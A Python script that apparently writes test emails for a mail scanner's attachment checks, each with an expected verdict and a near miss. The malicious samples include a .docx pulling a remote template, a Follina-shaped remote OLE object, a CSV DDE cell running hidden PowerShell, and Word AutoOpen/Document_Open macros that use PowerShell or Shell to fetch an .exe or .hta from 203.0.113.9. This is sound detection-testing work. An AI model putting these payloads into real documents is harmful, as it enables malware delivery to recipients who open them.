#!/usr/bin/env python3
"""Writes tests/messages/content_attach_*.eml and .expect (content branch):
Office files that act on opening without VBA (an external template in a
.docx's relationships, DDE formulas in a CSV) and a macro-enabled name in
an encrypted zip, each with a near miss.  The files are built here.
Run from the repository top: python3 tests/messages/content_attach_make.py tests/messages
"""
import base64, io, os, sys, zipfile
out = sys.argv[1]

def zipof(entries, deflate=True):
    bio = io.BytesIO()
    with zipfile.ZipFile(bio, 'w', zipfile.ZIP_DEFLATED if deflate else zipfile.ZIP_STORED) as z:
        for n, d in entries:
            z.writestr(zipfile.ZipInfo(n, (2026, 11, 25, 10, 0, 0)), d)
    return bio.getvalue()

def encrypted(data):
    """Marks every entry of a stored zip as encrypted (general purpose bit
    0 in the local and central headers): what a password-protected zip
    says; the bytes need not decrypt, since nothing reads them."""
    b = bytearray(data)
    for sig, off in ((b'PK\x03\x04', 6), (b'PK\x01\x02', 8)):
        i = b.find(sig)
        while i >= 0:
            b[i + off] |= 1
            i = b.find(sig, i + 4)
    return bytes(b)

CT = (b'<?xml version="1.0" encoding="UTF-8"?><Types xmlns="http://schemas.openxmlformats.org/package/2006/content-types">'
      b'<Override PartName="/word/document.xml" ContentType="application/vnd.openxmlformats-officedocument.wordprocessingml.document.main+xml"/></Types>')
DOC = b'<?xml version="1.0"?><w:document xmlns:w="http://schemas.openxmlformats.org/wordprocessingml/2006/main"><w:body><w:p><w:r><w:t>Quotation</w:t></w:r></w:p></w:body></w:document>'
def rels(rtype, target, mode):
    return ('<?xml version="1.0" encoding="UTF-8" standalone="yes"?>\n'
            '<Relationships xmlns="http://schemas.openxmlformats.org/package/2006/relationships">'
            '<Relationship Id="rId1" Type="http://schemas.openxmlformats.org/officeDocument/2006/relationships/%s" '
            'Target="%s" TargetMode="%s"/></Relationships>' % (rtype, target, mode)).encode()
def docx(extra):
    return zipof([("[Content_Types].xml", CT), ("word/document.xml", DOC)] + extra)

def ole(names, types, payload):
    """A compound file (v3, 512-byte sectors) like tests/unit/test_attach.c's
    make_ole: header, FAT, a directory of a root and up to three entries,
    and a run of 8 data sectors that starts with payload."""
    import struct
    hdr = bytearray(512)
    hdr[0:8] = b'\xd0\xcf\x11\xe0\xa1\xb1\x1a\xe1'
    hdr[0x18] = 0x3E; hdr[0x1A] = 3; hdr[0x1C] = 0xFE; hdr[0x1D] = 0xFF
    hdr[0x1E] = 9; hdr[0x20] = 6; hdr[0x2C] = 1; hdr[0x30] = 1; hdr[0x39] = 0x10
    hdr[0x3C:0x40] = b'\xfe\xff\xff\xff'; hdr[0x44:0x48] = b'\xfe\xff\xff\xff'
    hdr[0x4C:512] = b'\xff' * (512 - 0x4C); hdr[0x4C:0x50] = b'\0\0\0\0'
    fat = bytearray(b'\xff' * 512)
    fat[0:4] = struct.pack('<I', 0xFFFFFFFD); fat[4:8] = struct.pack('<I', 0xFFFFFFFE)
    for k in range(8):
        fat[4 * (2 + k):4 * (3 + k)] = struct.pack('<I', 0xFFFFFFFE if k == 7 else 3 + k)
    d = bytearray(512)
    for i, nm in enumerate(["Root Entry"] + names):
        e = 128 * i
        u = nm.encode('utf-16-le')
        d[e:e + len(u)] = u
        d[e + 0x40] = len(u) + 2
        d[e + 0x42] = 5 if i == 0 else types[i - 1]
        d[e + 0x44:e + 0x50] = b'\xff' * 12
        if i == 0:
            d[e + 0x4C:e + 0x50] = struct.pack('<I', 1)
        elif i < len(names):
            d[e + 0x48:e + 0x4C] = struct.pack('<I', i + 1)
        if i > 0 and types[i - 1] == 2:
            d[e + 0x74:e + 0x78] = struct.pack('<I', 2)
            d[e + 0x78:e + 0x7C] = struct.pack('<I', 512 * 8)
        else:
            d[e + 0x74:e + 0x78] = struct.pack('<I', 0xFFFFFFFE)
    data = payload + bytes(512 * 8 - len(payload))
    return bytes(hdr) + bytes(fat) + bytes(d) + data

def ovba_compress(src):
    """MS-OVBA 2.4.1 compression (greedy matches, so copy tokens are used):
    chunks of at most 3000 bytes, each a flag byte before 8 tokens."""
    import struct
    out = b'\x01'
    for c in range(0, len(src), 3000):
        chunk = src[c:c + 3000]
        data = b''
        pos = 0
        while pos < len(chunk):
            flags, tokens = 0, b''
            for bit in range(8):
                if pos >= len(chunk):
                    break
                bc = 4
                while bc < 12 and (1 << bc) < pos:
                    bc += 1
                maxlen = (0xFFFF >> bc) + 3
                best, boff = 0, 0
                for off in range(1, pos + 1):
                    n = 0
                    while (n < maxlen and pos + n < len(chunk) and
                           chunk[pos + n] == chunk[pos - off + n]):
                        n += 1
                    if n > best:
                        best, boff = n, off
                if best >= 3:
                    flags |= 1 << bit
                    tokens += struct.pack('<H', ((boff - 1) << (16 - bc)) | (best - 3))
                    pos += best
                else:
                    tokens += chunk[pos:pos + 1]
                    pos += 1
            data += bytes([flags]) + tokens
        out += struct.pack('<H', 0xB000 | (len(data) + 2 - 3)) + data
    return out

def vba_doc(source):
    return ole(["VBA", "_VBA_PROJECT", "Module1"], [1, 2, 2],
               ovba_compress(source.encode('ascii')))

def b64(d):
    s = base64.b64encode(d).decode()
    return '\r\n'.join(s[i:i+76] for i in range(0, len(s), 76))

def msg(name, zh, fname, ctype, data, comment, expect):
    h = ["From: Li Wei <li.wei@example.com>", "To: Ann Lee <ann@example.org>",
         "Subject: quotation", "Date: Wed, 25 Nov 2026 10:12:00 +0800",
         "Message-ID: <%s@example.com>" % name, "MIME-Version: 1.0",
         "In-Reply-To: <prev-%s@example.org>" % name,
         'Content-Type: multipart/mixed; boundary="b1"']
    text = (["王经理您好：", "", "附件是报价单，请查收。", "", "李伟"] if zh else
            ["Dear Ann,", "", "please find the quotation attached.", "", "Li Wei"])
    body = ["", "--b1", "Content-Type: text/plain; charset=UTF-8",
            "Content-Transfer-Encoding: 8bit", ""] + text + [""]
    body += ["--b1", "Content-Type: %s; name=\"%s\"" % (ctype, fname),
             "Content-Disposition: attachment; filename=\"%s\"" % fname,
             "Content-Transfer-Encoding: base64", "", b64(data), "", "--b1--", ""]
    with open(os.path.join(out, name + ".eml"), "w", newline="", encoding="utf-8") as f:
        f.write("\r\n".join(h + body))
    with open(os.path.join(out, name + ".expect"), "w") as f:
        f.write("# " + comment + "\n" + "\n".join(expect) + "\n")

DOCX = "application/vnd.openxmlformats-officedocument.wordprocessingml.document"
msg("content_attach_remote_template", False, "quotation.docx", DOCX,
    docx([("word/_rels/settings.xml.rels",
           rels("attachedTemplate", "http://203.0.113.9/t/report.dotm", "External"))]),
    "A .docx whose settings load a template from the network (CVE-2017-0199 style).",
    ["fires ATTACH_ACTIVE_CONTENT", "not ATTACH_MACRO"])
msg("content_attach_remote_oleobject_zh", True, "报价单.docx", DOCX,
    docx([("word/_rels/document.xml.rels",
           rels("oleObject", "mhtml:http://203.0.113.9/x.html!x-usc:http://203.0.113.9/x.html", "External"))]),
    "A remote OLE object fetched on opening (the Follina shape), Chinese letter.",
    ["fires ATTACH_ACTIVE_CONTENT"])
msg("content_attach_remote_near", False, "quotation.docx", DOCX,
    docx([("word/_rels/document.xml.rels",
           rels("hyperlink", "https://www.example.com/catalogue", "External")),
          ("word/_rels/settings.xml.rels",
           rels("attachedTemplate", "Normal.dotm", "Internal"))]),
    "Near miss: an external hyperlink waits for a click; a local template is normal.",
    ["not ATTACH_ACTIVE_CONTENT", "not ATTACH_MACRO"])
msg("content_attach_csv_dde", True, "price.csv", "text/csv",
    "型号,单价\r\nP-40,\"=cmd|' /C powershell -w hidden'!A0\"\r\n".encode("utf-8"),
    "A CSV whose cell runs cmd through DDE as Excel opens it.",
    ["fires ATTACH_ACTIVE_CONTENT"])
msg("content_attach_csv_hyperlink", False, "orders.csv", "text/csv",
    b'order,link\r\n118,=HYPERLINK("http://203.0.113.9/invoice.exe","Invoice")\r\n',
    "A CSV whose HYPERLINK points to a program.",
    ["fires ATTACH_ACTIVE_CONTENT"])
msg("content_attach_csv_near", False, "price.csv", "text/csv",
    b'item,qty,price,total,phone\r\nP-40,-5,12.50,=SUM(B2:C2),+86 574 8888 0000\r\n'
    b'P-41,@home,13.00,=HYPERLINK("https://www.example.com/p41","spec"),-\r\n',
    "Near miss: negative numbers, phone numbers, a SUM and a link to a web page.",
    ["not ATTACH_ACTIVE_CONTENT"])
msg("content_attach_zip_docm_encrypted", False, "order.zip", "application/zip",
    encrypted(zipof([("order.docm", b"x" * 200)], deflate=False)),
    "A .docm in a password-protected zip: the password hides the macros, the name says there are some.",
    ["fires ATTACH_MACRO", "fires ATTACH_ENCRYPTED"])
msg("content_attach_zip_docx_encrypted_near", True, "order.zip", "application/zip",
    encrypted(zipof([("order.docx", b"x" * 200)], deflate=False)),
    "Near miss: a .docx in a password-protected zip is encrypted, not a macro format.",
    ["fires ATTACH_ENCRYPTED", "not ATTACH_MACRO"])
MSWORD = "application/msword"
msg("content_attach_macro_runs", False, "invoice.doc", MSWORD,
    vba_doc('Attribute VB_Name = "ThisDocument"\r\nSub AutoOpen()\r\n'
            '    Set o = CreateObject("WScript.Shell")\r\n'
            '    o.Run "powershell -w hidden -c iwr http://203.0.113.9/a.exe"\r\nEnd Sub\r\n'),
    "A Word macro that runs on opening (AutoOpen) and starts PowerShell through WScript.Shell.",
    ["fires ATTACH_MACRO", "fires ATTACH_ACTIVE_CONTENT"])
msg("content_attach_macro_runs_zh", True, "报价单.doc", MSWORD,
    vba_doc('Attribute VB_Name = "ThisDocument"\r\nPrivate Sub Document_Open()\r\n'
            '    Shell "cmd /c start http://203.0.113.9/x.hta"\r\nEnd Sub\r\n'),
    "Document_Open calling Shell, in a Chinese letter.",
    ["fires ATTACH_ACTIVE_CONTENT"])
msg("content_attach_macro_plain_near", False, "calculator.doc", MSWORD,
    vba_doc('Attribute VB_Name = "Module1"\r\nSub AutoOpen()\r\n'
            '    ActiveDocument.Fields.Update\r\nEnd Sub\r\n'
            'Function Shelling(x)\r\n    Shelling = x * 2\r\nEnd Function\r\n'),
    "Near miss: a macro that runs on opening but only updates fields ('Shelling' is not Shell): it has macros, it does not call out.",
    ["fires ATTACH_MACRO", "not ATTACH_ACTIVE_CONTENT"])
